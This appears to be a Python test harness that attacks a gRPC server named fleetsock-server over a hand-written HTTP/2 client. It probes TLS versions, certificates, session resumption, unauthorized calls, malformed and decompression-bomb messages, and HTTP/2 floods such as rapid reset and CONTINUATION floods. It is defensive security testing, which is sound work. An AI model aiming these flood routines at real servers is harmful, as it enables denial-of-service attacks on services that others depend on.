"""Attacks on a fleetsock-server, by a client that shares no code with it: Python's own ssl, and HTTP/2 written by hand.

Each attack is a subcommand; what came of it is one JSON object on standard output. What is right is decided by the
test that runs this. Needs Python 3.8 and nothing else.
"""

import argparse
import json
import os
import socket
import ssl
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW = 4
TIMEOUT = 10


class Over(Exception):
    """The server ended the connection, by GOAWAY (with a code) or otherwise (without)."""

    def __init__(self, code, words):
        super().__init__(words)
        self.code = code


# HPACK (RFC 7541), as far as a client needs it: literals go out, and answers are read.

STATIC_STATUS = range(8, 15)
STATIC_NAMES = 61


def codes():
    """The Huffman codes of up to eight bits (RFC 7541, appendix B): those are all that answers use."""
    table = {}
    groups = [
        (5, 0, "012aceiost"),
        (6, 0x14, " %-./3456789=A_bdfghlmnpru"),
        (7, 0x5C, ":BCDEFGHIJKLMNOPQRSTUVWYjkqvwxyz"),
        (8, 0xF8, "&*,;XZ"),
    ]
    for length, first, characters in groups:
        for place, character in enumerate(characters):
            table[(length, first + place)] = character
    return table


CODES = codes()


def huffman(data):
    text, value, length = "", 0, 0
    for byte in data:
        for bit in range(7, -1, -1):
            value, length = value << 1 | byte >> bit & 1, length + 1
            if (length, value) in CODES:
                text += CODES[(length, value)]
                value = length = 0
            elif length > 8:
                return text + "?"
    return text


def integer(data, at, bits):
    most = (1 << bits) - 1
    value = data[at] & most
    at += 1
    if value < most:
        return value, at
    shift = 0
    while True:
        value += (data[at] & 127) << shift
        shift += 7
        at += 1
        if not data[at - 1] & 128:
            return value, at


def string(data, at):
    length, start = integer(data, at, 7)
    raw = data[start : start + length]
    return (huffman(raw) if data[at] & 128 else raw.decode("latin-1")), start + length


class Decoder:
    """Reads header blocks; names of the static table that are not needed are told as their number."""

    def __init__(self):
        self.dynamic = []

    def entry(self, index):
        if index <= STATIC_NAMES:
            return (f"static-{index}", f"static-{index}")
        return self.dynamic[index - STATIC_NAMES - 1]

    def read(self, block):
        at, fields = 0, []
        while at < len(block):
            byte = block[at]
            if byte & 128:
                index, at = integer(block, at, 7)
                fields.append(self.entry(index))
                continue
            if byte & 0xE0 == 0x20:
                _, at = integer(block, at, 5)
                continue
            indexed = byte & 64
            index, at = integer(block, at, 6 if indexed else 4)
            if index:
                name = self.entry(index)[0]
            else:
                name, at = string(block, at)
            value, at = string(block, at)
            fields.append((name, value))
            if indexed:
                self.dynamic.insert(0, (name, value))
        return fields


def literal(name, value):
    def text(data):
        data = data.encode()
        assert len(data) < 127
        return bytes([len(data)]) + data

    return b"\x00" + text(name) + text(value)


def request(path):
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "server"),
        (":path", path),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    return b"".join(literal(name, value) for name, value in fields)


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


class Connection:
    """HTTP/2 over TLS, with nothing done that is not asked for; what `data` sends keeps to the windows of the server."""

    def __init__(self, tls, settings=b""):
        self.tls, self.buffer, self.decoder, self.polite = tls, b"", Decoder(), True
        # What may be sent of each stream and, as that of stream 0, in all; frames that were read while waiting for more.
        self.initial, self.room, self.kept = 65535, {0: 65535}, []
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        try:
            self.tls.sendall(data)
        except (OSError, ssl.SSLError) as error:
            # The server may have said why before it closed, or before it ceased to read.
            self.polite = False
            try:
                while True:
                    self.receive()
            except Over as over:
                raise over from None
            raise Over(None, str(error)) from None

    def more(self):
        try:
            data = self.tls.recv(65536)
        except (OSError, ssl.SSLError) as error:
            raise Over(None, str(error)) from None
        if not data:
            raise Over(None, "closed")
        self.buffer += data

    def receive(self):
        """The next frame; GOAWAY is raised."""
        return self.kept.pop(0) if self.kept else self.read()

    def read(self):
        while len(self.buffer) < 9:
            self.more()
        length = struct.unpack("!I", b"\0" + self.buffer[:3])[0]
        while len(self.buffer) < 9 + length:
            self.more()
        kind, flags, stream = self.buffer[3], self.buffer[4], struct.unpack("!I", self.buffer[5:9])[0]
        payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
        if kind == GOAWAY:
            raise Over(struct.unpack("!I", payload[4:8])[0], payload[8:].decode("latin-1"))
        if kind == WINDOW_UPDATE:
            self.room[stream] = self.room.get(stream, self.initial) + struct.unpack("!I", payload)[0]
        if kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack("!HI", payload):
                if name == INITIAL_WINDOW:
                    self.room = {of: room + (value - self.initial if of else 0) for of, room in self.room.items()}
                    self.initial = value
            if self.polite:
                self.send(frame(SETTINGS, ACK, 0))
        return kind, flags, stream, payload

    def widened(self):
        """The connection, after the server allowed more than the 64 KiB that every connection begins with."""
        while self.receive()[0] != WINDOW_UPDATE:
            pass
        return self

    def data(self, stream, data, most=16384, end=False):
        """Sends data in frames of at most so many bytes, as far as the stream lives."""
        self.room.setdefault(stream, self.initial)
        while data:
            room = min(self.room[0], self.room[stream])
            if room <= 0:
                self.kept.append(self.read())
                kind, flags, of, _ = self.kept[-1]
                if of == stream and (kind == RST_STREAM or kind == HEADERS and flags & END_STREAM):
                    return
                continue
            part, data = data[:room], data[room:]
            self.room[0], self.room[stream] = self.room[0] - len(part), self.room[stream] - len(part)
            last = lambda at: END_STREAM if end and not data and at + most >= len(part) else 0
            frames = [frame(DATA, last(at), stream, part[at : at + most]) for at in range(0, len(part), most)]
            self.send(b"".join(frames))

    def pending(self):
        """Reads what is there without waiting for more."""
        self.tls.settimeout(0)
        closed = False
        try:
            while not closed:
                data = self.tls.recv(65536)
                self.buffer += data
                closed = not data
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except (OSError, ssl.SSLError) as error:
            raise Over(None, str(error)) from None
        finally:
            self.tls.settimeout(TIMEOUT)
        while len(self.buffer) >= 9 and len(self.buffer) >= 9 + struct.unpack("!I", b"\0" + self.buffer[:3])[0]:
            self.receive()
        if closed:
            raise Over(None, "closed")

    def call(self, stream, path, body=b"", framed=True, end=True):
        """One gRPC call; its status and words, or how the stream or connection ended."""
        message = b"\0" + struct.pack("!I", len(body)) + body if framed else body
        try:
            self.send(frame(HEADERS, END_HEADERS, stream, request(path)))
            self.data(stream, message, end=end)
            return self.answer(stream)
        except Over as over:
            return {"over": str(over), "code": over.code}

    def answer(self, stream):
        told = {}
        while True:
            kind, flags, of, payload = self.receive()
            if of != stream:
                continue
            if kind == RST_STREAM:
                return {**told, "reset": struct.unpack("!I", payload)[0]}
            if kind == HEADERS:
                fields = dict(self.decoder.read(payload))
                if "grpc-status" in fields:
                    told = {"status": int(fields["grpc-status"]), "message": fields.get("grpc-message", "")}
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                return told


class Attacker:
    def __init__(self, arguments):
        host, _, port = arguments.address.rpartition(":")
        self.address, self.domain, self.folder = (host, int(port)), arguments.trust_domain, arguments.folder

    def context(self, who=None, root="root.pem"):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.load_verify_locations(os.path.join(self.folder, root))
        context.set_alpn_protocols(["h2"])
        if who:
            context.load_cert_chain(os.path.join(self.folder, who, "identity.pem"))
        return context

    def tls(self, context, name, session=None):
        tcp = socket.create_connection(self.address, timeout=TIMEOUT)
        return context.wrap_socket(tcp, server_hostname=f"{name}.{self.domain}", session=session)

    def outcome(self, context, name, session=None):
        """How a handshake ends, and what the server says when one goes on as if it had gone well."""
        try:
            tls = self.tls(context, name, session)
        except (ssl.SSLError, OSError) as error:
            return {"handshake": str(error)}
        told = {"version": tls.version(), "cipher": tls.cipher()[0], "reused": tls.session_reused}
        told.update(Connection(tls).call(1, "/fleetsock.v1.Inventory/ListHosts"))
        told["ticket"] = bool(tls.session and tls.session.has_ticket)
        return told

    def connect(self, who=None):
        return Connection(self.tls(self.context(who), "server" if who else "enroll"))

    # The attacks.

    def versions(self):
        """TLS 1.2 with both names, and what 1.3 gives."""
        told = {}
        for name in ("server", "enroll"):
            old = self.context("viewer")
            old.maximum_version = ssl.TLSVersion.TLSv1_2
            told[name] = {"1.2": self.outcome(old, name), "1.3": self.outcome(self.context("viewer"), name)}
        return told

    def names(self):
        """A name that is not served, and certificates that are not ours or none."""
        told = {"other name": self.outcome(self.context("viewer"), "other")}
        told["no certificate"] = self.outcome(self.context(), "server")
        told["foreign certificate"] = self.outcome(self.context("foreign"), "server")
        told["foreign root"] = self.outcome(self.context("viewer", "foreign.pem"), "server")
        return told

    def resume(self):
        """A second connection with the session of the first."""
        context = self.context("agent")
        first = self.tls(context, "server")
        Connection(first).call(1, "/fleetsock.v1.Inventory/ListHosts")
        session = first.session
        told = {"ticket": bool(session and session.has_ticket)}
        # A context that gives out sessions of another one would not be let in by OpenSSL itself.
        told["again"] = self.outcome(context, "server", session)
        return told

    def calls(self):
        """Calls of each identity that it may not make, by its own connection."""
        told = {}
        for who, paths in {
            "agent": ["Admin/CreateToken", "Admin/RevokeHost", "Admin/ListAudit", "Inventory/ListHosts", "Enrollment/Enroll"],
            "viewer": ["Admin/CreateToken", "Admin/VerifyAudit", "Agent/Session", "Agent/RenewCertificate"],
            "anonymous": ["Admin/CreateToken", "Inventory/ListHosts", "Agent/Session"],
        }.items():
            connection = self.connect(None if who == "anonymous" else who)
            for place, path in enumerate(paths):
                told[f"{who} {path}"] = connection.call(2 * place + 1, f"/fleetsock.v1.{path}")
        told["viewer Inventory/ListHosts"] = self.connect("viewer").call(1, "/fleetsock.v1.Inventory/ListHosts")
        return told

    def messages(self):
        """Messages that are too large, lie about their length, or are nothing."""
        enroll, session = "/fleetsock.v1.Enrollment/Enroll", "/fleetsock.v1.Agent/Session"
        lie = b"\0" + struct.pack("!I", 0x7FFFFFFF) + b"x" * 100
        # Two million empty sub-messages, as bytes that a decompressor would make of a few hundred.
        compressed = b"\1" + struct.pack("!I", 40) + b"\x1f\x8b" + b"\0" * 38
        return {
            "enroll 100 KiB": self.connect().widened().call(1, enroll, b"\0" * 102_400),
            "enroll 2 GiB announced": self.connect().call(1, enroll, lie, framed=False, end=False),
            "enroll garbage": self.connect().call(1, enroll, b"\xff" * 1000),
            "enroll cut short": self.connect().call(1, enroll, b"\0" + struct.pack("!I", 500) + b"x", framed=False),
            "enroll compressed": self.connect().call(1, enroll, compressed, framed=False),
            "agent 2 GiB announced": self.connect("agent").call(1, session, lie, framed=False, end=False),
            "agent garbage": self.connect("agent").call(1, session, b"\xff" * 1000),
            "viewer 2 MiB": self.connect("viewer").call(1, "/fleetsock.v1.Inventory/ListHosts", b"\0" * 30_000 + lie * 20),
        }

    def flood(self, who, one, most, preamble=b""):
        """One flood; again when the end came by a TCP reset, which takes the GOAWAY before it from whoever did not read it yet."""
        for _ in range(20):
            told = self.flood_once(who, one, most, preamble)
            if told["over"] is None or told["code"] is not None:
                break
        return told

    def flood_once(self, who, one, most, preamble):
        """Sends `one(number)` again and again, until the server ends it or `most` were sent."""
        connection = self.connect(who)
        sent = 0
        try:
            connection.send(preamble)
            while sent < most:
                connection.send(b"".join(one(number) for number in range(sent, sent + 100)))
                sent += 100
                connection.pending()
            return {"sent": sent, "over": None, "code": None}
        except Over as over:
            return {"sent": sent, "over": str(over), "code": over.code}

    def floods(self):
        path = request("/fleetsock.v1.Enrollment/Enroll")
        broken = literal("UPPER", "x") + path
        told = {}
        for who in (None, "agent"):
            name = who or "anonymous"
            stream = lambda number: 2 * number + 1
            told[f"{name} rapid reset"] = self.flood(
                who,
                lambda n: frame(HEADERS, END_HEADERS, stream(n), path) + frame(RST_STREAM, 0, stream(n), b"\0\0\0\x08"),
                100_000,
            )
            told[f"{name} malformed headers"] = self.flood(
                who, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, stream(n), broken), 100_000
            )
            told[f"{name} continuation"] = self.flood(
                who,
                lambda n: frame(CONTINUATION, 0, 1, literal(f"x-{n}", "y" * 100) * 10),
                100_000,
                frame(HEADERS, 0, 1, path),
            )
            told[f"{name} streams"] = self.flood(
                who, lambda n: frame(HEADERS, END_HEADERS, stream(n), path), 100_000
            )
        return told

    def drips(self):
        """Floods that HTTP/2 has no word against, by somebody who does not read: what they cost is measured outside."""
        told = {}
        for who in (None, "agent"):
            name = who or "anonymous"
            for what, one in {
                "ping": frame(PING, 0, 0, b"x" * 8),
                "settings": frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65535)),
            }.items():
                tls = self.tls(self.context(who), "server" if who else "enroll")
                tls.sendall(PREFACE + frame(SETTINGS, 0, 0))
                tls.settimeout(2)
                sent = 0
                try:
                    while sent < 2_000_000:
                        tls.sendall(one * 1000)
                        sent += 1000
                    end = "all were sent"
                except (OSError, ssl.SSLError) as error:
                    end = str(error)
                told[f"{name} {what}"] = {"sent": sent, "over": end}
                tls.close()
        return told


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=["versions", "names", "resume", "calls", "messages", "floods", "drips"])
    parser.add_argument("--address", required=True)
    parser.add_argument("--trust-domain", required=True)
    parser.add_argument("--folder", required=True, help="root.pem, foreign.pem, and folders with an identity.pem each")
    arguments = parser.parse_args()
    json.dump(getattr(Attacker(arguments), arguments.attack)(), sys.stdout)


if __name__ == "__main__":
    main()
